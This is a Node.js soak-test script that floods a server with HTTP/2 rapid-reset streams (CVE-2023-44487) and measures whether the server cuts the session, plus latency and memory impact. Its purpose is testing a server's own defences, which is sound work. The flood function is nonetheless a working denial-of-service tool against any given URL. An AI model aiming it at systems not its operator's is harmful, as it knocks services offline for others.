#!/usr/bin/env node
// HTTP/2 rapid reset (CVE-2023-44487) against a server: open a stream and
// reset it at once, at a given rate, until the server ends the session or the
// time is up. h2load cannot do this; Node's http2 client can.
//
//   node scripts/soak/h2-rapid-reset.mjs https://127.0.0.1:8443 [--rate 10000] [--seconds 30] [--master PID]
//
// With --master, it also measures a parallel well-behaved client's latency
// (p99 before and during the flood) and the workers' RSS growth, which are
// what the flood must not move much.
import { readFileSync, readdirSync } from 'node:fs';
import http2 from 'node:http2';
import { parseArgs } from 'node:util';

/**
 * Floods `url` with open-and-reset streams at `rate` per second for at most
 * `seconds`. Resolves with what happened: whether the server ended the
 * session (a GOAWAY or the connection closed), after how long, and how many
 * streams were opened.
 */
export function rapidReset({ url, rate = 10_000, seconds = 30 }) {
  return new Promise((resolve) => {
    const session = http2.connect(url, { rejectUnauthorized: false });
    const started = performance.now();
    let opened = 0;
    let goaway = null;
    let timer = null;
    const finish = (ended) => {
      clearInterval(timer);
      if (!session.destroyed) session.destroy();
      resolve({ ended, goaway, opened, afterMs: Math.round(performance.now() - started) });
    };
    session.on('error', () => {});
    session.on('goaway', (code) => (goaway ??= code));
    session.on('close', () => finish(true));
    const limit = setTimeout(() => finish(false), seconds * 1000);
    limit.unref();
    // a batch every 10 ms: timers cannot fire 10,000 times a second
    const perTick = Math.max(1, Math.round(rate / 100));
    session.on('connect', () => {
      timer = setInterval(() => {
        for (let i = 0; i < perTick && !session.destroyed && !session.closed; i++) {
          try {
            const stream = session.request({ ':path': '/' });
            stream.on('error', () => {});
            stream.close(http2.constants.NGHTTP2_CANCEL);
            opened++;
          } catch {
            return;
          }
        }
      }, 10);
    });
  });
}

/** A well-behaved client: one request at a time on its own session; resolves with the latencies, in ms. */
export function steadyClient(url, path, stop) {
  return new Promise((resolve) => {
    const session = http2.connect(url, { rejectUnauthorized: false });
    const latencies = [];
    let failed = 0;
    session.on('error', () => {});
    const next = () => {
      if (stop.done || session.destroyed) {
        session.close();
        resolve({ latencies, failed });
        return;
      }
      const t0 = performance.now();
      const s = session.request({ ':path': path });
      s.on('data', () => {});
      s.on('end', () => {
        latencies.push(performance.now() - t0);
        setTimeout(next, 5);
      });
      s.on('error', () => {
        failed++;
        setTimeout(next, 5);
      });
      s.end();
    };
    next();
  });
}

export const p99 = (values) => {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.floor(sorted.length * 0.99))] ?? 0;
};

function rssKiB(pid) {
  try {
    return Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0);
  } catch {
    return 0;
  }
}

function childrenOf(pid) {
  const out = [];
  for (const d of readdirSync('/proc')) {
    if (!/^\d+$/.test(d)) continue;
    try {
      const stat = readFileSync(`/proc/${d}/stat`, 'utf8');
      if (Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]) === pid) out.push(Number(d));
    } catch {}
  }
  return out;
}

async function main() {
  const { values, positionals } = parseArgs({
    allowPositionals: true,
    options: { rate: { type: 'string' }, seconds: { type: 'string' }, master: { type: 'string' } },
  });
  const url = positionals[0] ?? 'https://127.0.0.1:8443';
  const rate = Number(values.rate ?? 10_000);
  const seconds = Number(values.seconds ?? 30);
  const master = values.master ? Number(values.master) : null;
  const baselineStop = { done: false };
  const baseline = steadyClient(url, '/', baselineStop);
  await new Promise((r) => setTimeout(r, 3000));
  baselineStop.done = true;
  const before = master ? childrenOf(master).reduce((sum, pid) => sum + rssKiB(pid), 0) : 0;
  const stop = { done: false };
  const during = steadyClient(url, '/', stop);
  // the flood is repeated for the whole time: each session the server ends is replaced
  const floods = [];
  const until = performance.now() + seconds * 1000;
  let peak = before;
  while (performance.now() < until) {
    floods.push(await rapidReset({ url, rate, seconds: (until - performance.now()) / 1000 }));
    if (master)
      peak = Math.max(
        peak,
        childrenOf(master).reduce((sum, pid) => sum + rssKiB(pid), 0),
      );
  }
  stop.done = true;
  const [b, d] = [await baseline, await during];
  console.log(
    JSON.stringify({
      sessions: floods.length,
      endedByServer: floods.filter((f) => f.ended).length,
      firstEndedAfterMs: floods[0]?.afterMs,
      streamsOpened: floods.reduce((n, f) => n + f.opened, 0),
      baselineP99Ms: Number(p99(b.latencies).toFixed(2)),
      duringP99Ms: Number(p99(d.latencies).toFixed(2)),
      parallelFailed: d.failed,
      parallelServed: d.latencies.length,
      workersRssGrowthMiB: master ? Number(((peak - before) / 1024).toFixed(1)) : null,
    }),
  );
}

if (import.meta.url === `file://${process.argv[1]}`) await main();
